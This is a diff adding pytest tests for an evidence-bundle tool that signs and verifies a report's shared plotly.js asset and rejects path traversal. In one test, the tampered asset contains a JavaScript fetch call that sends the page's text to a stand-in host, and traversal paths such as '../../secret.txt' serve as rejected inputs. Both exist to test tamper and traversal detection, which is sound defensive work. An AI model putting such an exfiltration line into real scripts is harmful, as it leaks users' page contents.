@@ -378,6 +378,70 @@ def test_a_tar_gz_of_the_run_folder_verifies_and_its_temporary_copy_is_removed(r
     assert list(scratch.iterdir()) == []
 
 
+# --- the report folder's shared plotly.js, which report.html runs --------------------------------------
+
+SHARED = "../assets/plotly-4.1.1.min.js"
+
+
+@pytest.fixture
+def shared_asset(run_dir) -> Path:
+    asset = run_dir.parent / "assets" / "plotly-4.1.1.min.js"
+    asset.parent.mkdir()
+    asset.write_text("/* plotly.js */ var Plotly = {};\n")
+    return asset
+
+
+def test_the_shared_plotly_is_signed_and_checked_where_it_is(run_dir, shared_asset):
+    settings = load_settings()
+    info = write_bundle(run_dir, settings, shared=[SHARED])
+    manifest = json.loads((run_dir / "manifest.json").read_text())
+    assert manifest["shared_files"] == [{"path": SHARED, "size": shared_asset.stat().st_size,
+                                         "sha256": hashlib.sha256(shared_asset.read_bytes()).hexdigest()}]
+    assert SHARED not in [f["path"] for f in manifest["files"]] and info.files == 6
+    result = verify_bundle(run_dir, load_verifier(settings))
+    assert result.ok and result.files_checked == 7 and result.shared_absent == []
+
+    shared_asset.write_text("/* plotly.js */ fetch('https://example.invalid/?' + document.body.innerText);\n")
+    (finding,) = verify_bundle(run_dir, load_verifier(settings)).findings
+    assert finding.path == SHARED and finding.kind == "changed"
+    assert "report.html runs another script than the one signed" in finding.message
+
+
+def test_a_run_folder_copied_alone_verifies_and_names_the_shared_file_it_lacks(run_dir, shared_asset, tmp_path):
+    settings = load_settings()
+    write_bundle(run_dir, settings, shared=[SHARED])
+    alone = tmp_path / "run.tar.gz"
+    with tarfile.open(alone, "w:gz") as tar:
+        tar.add(run_dir, arcname=run_dir.name)
+    result = verify_bundle(alone, load_verifier(settings))
+    assert result.ok and result.shared_absent == [SHARED] and result.files_checked == 6
+    shown = runner.invoke(app, ["evidence", "verify", str(alone)])
+    assert shown.exit_code == 0 and f"note: {SHARED} (signed) is not beside the run folder" in shown.output
+    assert json.loads(runner.invoke(app, ["evidence", "verify", str(alone), "--json"]).stdout)["shared_absent"] == [
+        SHARED]
+    # With the report folder's assets beside it (`tar czf run.tar.gz -C REPORT_DIR RUN_ID assets`): checked too.
+    both = tmp_path / "both.tar.gz"
+    with tarfile.open(both, "w:gz") as tar:
+        tar.add(run_dir, arcname=run_dir.name)
+        tar.add(shared_asset.parent, arcname="assets")
+    result = verify_bundle(both, load_verifier(settings))
+    assert result.ok and result.shared_absent == [] and result.files_checked == 7
+
+
+def test_only_the_report_folders_assets_can_be_shared(run_dir, shared_asset, tmp_path):
+    settings = load_settings()
+    for outside in ("../../secret.txt", "../assets/../x", "assets/x", "../other/x.js"):
+        with pytest.raises(EvidenceError, match="is not a file the report folder shares"):
+            write_bundle(run_dir, settings, shared=[outside])
+    # A manifest naming another file is malformed, and nothing outside assets/ is read (signature aside).
+    write_bundle(run_dir, settings, shared=[SHARED])
+    manifest = json.loads((run_dir / "manifest.json").read_text())
+    manifest["shared_files"][0]["path"] = "../../secret.txt"
+    (run_dir / "manifest.json").write_bytes(json.dumps(manifest, sort_keys=True, separators=(",", ":")).encode())
+    findings = verify_bundle(run_dir, load_verifier(settings)).findings
+    assert [(f.path, f.kind) for f in findings] == [("manifest.json", "bad-signature"), ("manifest.json", "malformed")]
+
+
 def test_a_path_that_does_not_exist_raises(tmp_path):
     with pytest.raises(EvidenceError, match="does not exist"):
         verify_bundle(tmp_path / "nope", load_verifier(load_settings_with_auto_key()))
